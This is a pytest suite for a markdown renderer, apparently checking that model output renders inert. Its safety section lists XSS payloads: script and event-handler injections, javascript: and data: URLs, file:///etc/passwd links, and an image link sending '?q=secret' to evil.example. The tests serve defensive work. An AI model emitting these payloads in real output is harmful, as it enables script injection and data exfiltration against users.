"""One-shot rendering: what a finished answer looks like, and that model output is inert."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from claude_nb.render.highlight import (
    PRE_STYLE,
    LiveHighlighter,
    highlight_code,
    lexer_for,
    warm_lexers,
)
from claude_nb.render.markdown import HAS_LINKIFY, is_safe_url, render_markdown
from claude_nb.render.visible import visible_text
from claude_nb.testing.samples import llm_markdown

REL = 'rel="noopener noreferrer nofollow" target="_blank"'


# --- markdown features ------------------------------------------------------------------


def test_headings_have_no_anchors() -> None:
    assert render_markdown("## Setup\n") == "<h2>Setup</h2>\n"


def test_inline_markup() -> None:
    html = render_markdown("**b** *i* _u_ ~~s~~ `c < d`")
    assert (
        html == "<p><strong>b</strong> <em>i</em> <em>u</em> <s>s</s> <code>c &lt; d</code></p>\n"
    )


def test_links_open_in_a_new_tab_without_referrer() -> None:
    html = render_markdown("[docs](https://example.com/a?b=1&c=2)")
    assert html == f'<p><a href="https://example.com/a?b=1&amp;c=2" {REL}>docs</a></p>\n'


@pytest.mark.skipif(not HAS_LINKIFY, reason="bare URLs need linkify-it-py")
def test_bare_urls_become_links_but_file_names_do_not() -> None:
    html = render_markdown("See https://example.com/x_y. Edit main.py or www.example.com.")
    assert f'<a href="https://example.com/x_y" {REL}>https://example.com/x_y</a>.' in html
    assert "main.py" in html and "main.py</a>" not in html
    assert "www.example.com</a>" not in html


def test_images_are_links_never_loaded() -> None:
    html = render_markdown('![a chart](https://example.com/c.png "Title")')
    assert "<img" not in html
    assert html == (
        '<p><a class="cnb-image-link" href="https://example.com/c.png" title="Title" '
        f"{REL}>🖼 a chart</a></p>\n"
    )


def test_image_inside_a_link_does_not_nest_links() -> None:
    html = render_markdown("[![logo](https://i.example/l.png)](https://example.com)")
    assert html.count("<a ") == 1 and "🖼 logo" in html


def test_gfm_table_with_alignment() -> None:
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |\n")
    assert '<th style="text-align:left">a</th>' in html
    assert '<td style="text-align:right">2</td>' in html
    assert html.startswith("<table>\n<thead>")


def test_task_list() -> None:
    html = render_markdown("- [ ] todo\n- [x] done\n")
    assert html.count('type="checkbox"') == 2 and 'checked="checked"' in html
    assert 'disabled="disabled"' in html


def test_block_quote_and_rule() -> None:
    assert render_markdown("> quoted\n\n---\n") == (
        "<blockquote>\n<p>quoted</p>\n</blockquote>\n<hr />\n"
    )


def test_fenced_code_is_highlighted_with_inline_styles() -> None:
    html = render_markdown("```python\ndef f():\n    return 1\n```\n")
    assert html.startswith(
        '<div class="cnb-code" data-lang="python"><div class="cnb-code-lang">python</div>'
        f'<pre class="cnb-pre" style="{PRE_STYLE}"><code>'
    )
    assert '<span style="color: #008000; font-weight: bold">def</span>' in html
    assert "class=" not in html.split("<code>", 1)[1]  # no stylesheet needed
    assert html.endswith("</code></pre></div>\n")


def test_code_block_has_explicit_colours_for_dark_themes() -> None:
    assert re.search(r"background:#[0-9a-fA-F]{6}", PRE_STYLE)
    assert re.search(r"(^|;)color:#[0-9a-fA-F]{6}", PRE_STYLE)


@pytest.mark.parametrize(
    ("source", "label"),
    [("```\n<b>x</b>\n```\n", None), ("```nosuchlang\n<b>x</b>\n```\n", "nosuchlang")],
)
def test_unknown_or_missing_language_is_escaped_text(source: str, label: str | None) -> None:
    html = render_markdown(source)
    assert "<code>&lt;b&gt;x&lt;/b&gt;\n</code>" in html
    assert "<span" not in html
    if label is None:
        assert "data-lang" not in html and "cnb-code-lang" not in html
    else:
        assert f'data-lang="{label}"' in html


def test_indented_code_is_plain_code() -> None:
    html = render_markdown("    x = <1>\n")
    assert "<code>x = &lt;1&gt;\n</code>" in html and "<span" not in html


def test_language_aliases_resolve_and_unknown_names_do_not_guess() -> None:
    assert lexer_for("py") is not None and lexer_for("JS") is not None
    assert lexer_for("definitely-not-a-language") is None


def test_warm_lexers_then_highlight_is_cached() -> None:
    warm_lexers(["python"])
    assert highlight_code("x = 1\n", "python") is highlight_code("x = 1\n", "python")


def test_live_highlighter_shows_the_same_text_as_a_full_highlight() -> None:
    code = 'def f(x):\n    """doc\n    string"""\n    return x  # done\n'
    live = LiveHighlighter("python")
    for end in range(1, len(code) + 1):
        shown = live.html(code[:end])
        assert visible_text(shown) == visible_text(highlight_code(code[:end], "python"))


def test_rendering_is_deterministic() -> None:
    text = llm_markdown(20_000, seed=3)
    assert render_markdown(text) == render_markdown(text)


# --- math ----------------------------------------------------------------------------------


@pytest.mark.parametrize("source", ["$x^2$", "\\(x^2\\)"])
def test_inline_math(source: str) -> None:
    html = render_markdown(f"so {source} here")
    assert html == '<p>so <span class="cnb-math mathjax_process">\\(x^2\\)</span> here</p>\n'


@pytest.mark.parametrize("source", ["$$\na < b\n$$", "$$a < b$$", "\\[\na < b\n\\]"])
def test_display_math_blocks(source: str) -> None:
    html = render_markdown(source + "\n")
    assert html == '<div class="cnb-math-display mathjax_process">\\[a &lt; b\\]</div>\n'


def test_display_math_inside_a_sentence_stays_in_the_paragraph() -> None:
    html = render_markdown("then $$x$$ follows")
    assert '<span class="cnb-math-display mathjax_process">\\[x\\]</span>' in html


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $10 per month.",
        "Prices: $5, $10.50 or $1,000.",
        "From $5 to $10",
        "Pay 5$ or $ 10 now",
    ],
)
def test_currency_stays_plain_text(text: str) -> None:
    html = render_markdown(text)
    assert "cnb-math" not in html and visible_text(html) == text


def test_escaped_dollar_is_not_math() -> None:
    assert "cnb-math" not in render_markdown(r"costs \$x$ today")


def test_math_next_to_currency() -> None:
    html = render_markdown("It costs $5, and $x$ is a variable.")
    assert html.count("cnb-math") == 1 and "\\(x\\)" in html


def test_a_blank_line_ends_an_unclosed_display_block() -> None:
    assert "cnb-math" not in render_markdown("$$\na\n\nb\n$$\n")


def test_tex_that_could_make_links_or_styles_is_not_typeset() -> None:
    html = render_markdown("$\\href{javascript:alert(1)}{x}$ and $\\style{color:red}{y}$")
    assert "mathjax_process" not in html and html.count("cnb-math-unsafe") == 2


# --- safety --------------------------------------------------------------------------------

_BAD_SCHEME = re.compile(r"\s*(javascript|vbscript|data|file):", re.IGNORECASE)
_FORBIDDEN_TAGS = {"script", "iframe", "svg", "style", "img", "object", "embed", "math", "form"}


class _Audit(HTMLParser):
    """Collects what a browser would act on in a fragment of HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.stack: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            url_attr = name in ("href", "src", "action", "formaction", "xlink:href")
            if url_attr and (not is_safe_url(value) or _BAD_SCHEME.match(value)):
                self.problems.append(f"{tag} {name}={value!r}")
            if name == "style" and not self._our_style(tag, value):
                self.problems.append(f"{tag} style={value!r}")
        if tag not in ("input", "hr", "br"):
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self.stack:
            del self.stack[len(self.stack) - 1 - self.stack[::-1].index(tag) :]

    def _our_style(self, tag: str, value: str) -> bool:
        if tag == "pre" and value == PRE_STYLE:
            return True
        if tag == "span" and "pre" in self.stack:  # pygments tokens inside our <pre>
            return True
        return tag in ("th", "td") and value in {
            "text-align:left",
            "text-align:right",
            "text-align:center",
        }


PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="javascript:alert(1)">x</a>',
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<javascript:alert(1)>",
    '[x](https://ok.example "a" onmouseover="alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    '![a" onerror="alert(1)](https://i.example/x.png)',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onload=x\n</code></pre><script>alert(1)</script>\n```",
    "$</span><script>alert(1)</script>$",
    "$$\n</div><img src=x onerror=alert(1)>\n$$",
    "\\(<svg onload=alert(1)>\\)",
    "| <script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=y> | ok |",
    "- <iframe>\n  - [x](javascript:alert(1))",
    "> <svg><script>alert(1)</script></svg>",
    "# <img src=x onerror=alert(1)>",
    "**<script>alert(1)</script>**",
    "<details open ontoggle=alert(1)>",
    '<div style="position:fixed">x</div>',
    "[x](https://ok.example)<script>",
    "https://example.com/<script>alert(1)</script>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_model_output_cannot_produce_executable_markup(payload: str) -> None:
    audit = _Audit()
    audit.feed(render_markdown(payload))
    audit.close()
    assert audit.problems == []


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("[click](javascript:alert(1))", "click"),
        ("[click](JaVaScRiPt:alert(1))", "click"),
        ("[click](&#106;avascript:alert(1))", "click"),
        ("[click](data:text/html,x)", "click"),
        ("![pic](javascript:alert(1))", "🖼 pic"),
    ],
)
def test_refused_links_keep_only_their_text(source: str, text: str) -> None:
    html = render_markdown(source)
    assert "<a" not in html and visible_text(html) == text


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://a.example/x", True),
        ("HTTP://a.example", True),
        ("mailto:someone@example.com", True),
        ("/relative/path", True),
        ("../up", True),
        ("#anchor", True),
        ("?q=1", True),
        ("javascript:alert(1)", False),
        ("JAVASCRIPT:alert(1)", False),
        ("java%09script:alert(1)", False),
        ("vbscript:x", False),
        ("data:text/html,x", False),
        ("file:///etc/passwd", False),
        ("ftp://files.example", False),
        ("java\nscript:x", False),
        ("", False),
    ],
)
def test_url_policy(url: str, safe: bool) -> None:
    assert is_safe_url(url) is safe


def test_attributes_never_carry_raw_quotes_from_the_model() -> None:
    html = render_markdown('[x](https://a.example/"q" "t\\"itle") ![y"z](https://a.example/i.png)')
    for value in re.findall(r'="([^"]*)"', html):
        assert '"' not in value
    assert "%22q%22" in html and "&quot;" in html


# --- the sample generator -----------------------------------------------------------------


def test_llm_markdown_is_deterministic_sized_and_covers_every_feature() -> None:
    text = llm_markdown(30_000, seed=4)
    assert text == llm_markdown(30_000, seed=4) != llm_markdown(30_000, seed=5)
    assert 30_000 <= len(text.encode()) < 34_000
    html = render_markdown(text)
    for needle in [
        "<h2>",
        "<strong>",
        "<em>",
        "<code>",
        "<a href=",
        "<ul>",
        "<ol>",
        "<table>",
        "<blockquote>",
        'data-lang="python"',
        'data-lang="sql"',
        'data-lang="json"',
        "cnb-math mathjax_process",
        "cnb-math-display mathjax_process",
        "$5 and $10",
    ]:
        assert needle in html, needle
